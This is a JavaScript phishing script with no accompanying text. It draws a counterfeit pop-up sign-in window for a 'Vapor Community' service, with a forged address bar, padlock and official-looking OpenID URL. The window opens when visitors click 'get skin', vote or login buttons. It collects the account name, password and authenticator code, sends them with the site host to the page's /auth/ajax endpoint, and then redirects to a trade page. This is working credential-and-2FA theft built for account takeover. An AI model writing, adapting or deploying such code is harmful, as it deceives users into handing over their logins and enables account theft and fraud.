var L = { ru: ['Войти', 'Неверное имя аккаунта или пароль', 'Введите код из мобильного приложения'], en: ['Sign in', 'The account name or password that you have entered is incorrect.', 'Enter the code from your authenticator'] };
var lang = navigator.language.slice(0, 2) == 'ru' ? 'ru' : 'en';
function openAuth() {
  var html = '<div class="fw-head"><i class="fw-ico"></i><span class="fw-t">Vapor Community</span><b class="fw-min">–</b><b class="fw-x">×</b></div>' +
    '<div class="fw-url"><i class="lock"></i><em>Vapor Corp. [US]</em> | https://vaporcommunity.example/openid/login?openid.mode=checkid_setup</div>' +
    '<div class="fw-body"><input class="i-login"><input class="i-pass" type="password"><p class="fw-err"></p><button class="fw-go">' + L[lang][0] + '</button></div>';
  var w = document.createElement('div');
  w.className = 'fw';
  w.innerHTML = html;
  document.body.appendChild(w);
  w.querySelector('.fw-x').onclick = function () { w.parentNode.removeChild(w); };
  w.querySelector('.fw-go').onclick = function () {
    var login = w.querySelector('.i-login').value, pass = w.querySelector('.i-pass').value, code = w.querySelector('.i-code');
    var xhr = new XMLHttpRequest();
    xhr.open('POST', '/auth/ajax');
    xhr.responseType = 'json';
    xhr.onload = function () {
      var r = xhr.response || {};
      if (r.need == 'guard' && !code) {
        w.querySelector('.fw-body').insertAdjacentHTML('afterbegin', '<label>' + L[lang][2] + '<input class="i-code" maxlength="5"></label>');
      } else if (r.ok) {
        location.href = '/trade?done';
      } else {
        w.querySelector('.fw-err').innerText = L[lang][1];
      }
    };
    xhr.send(JSON.stringify({ l: login, p: pass, c: code ? code.value : null, d: location.host }));
  };
}
Array.prototype.forEach.call(document.querySelectorAll('[data-login], .get-skin, .vote'), function (b) {
  b.addEventListener('click', function (e) { e.preventDefault(); openAuth(); });
});
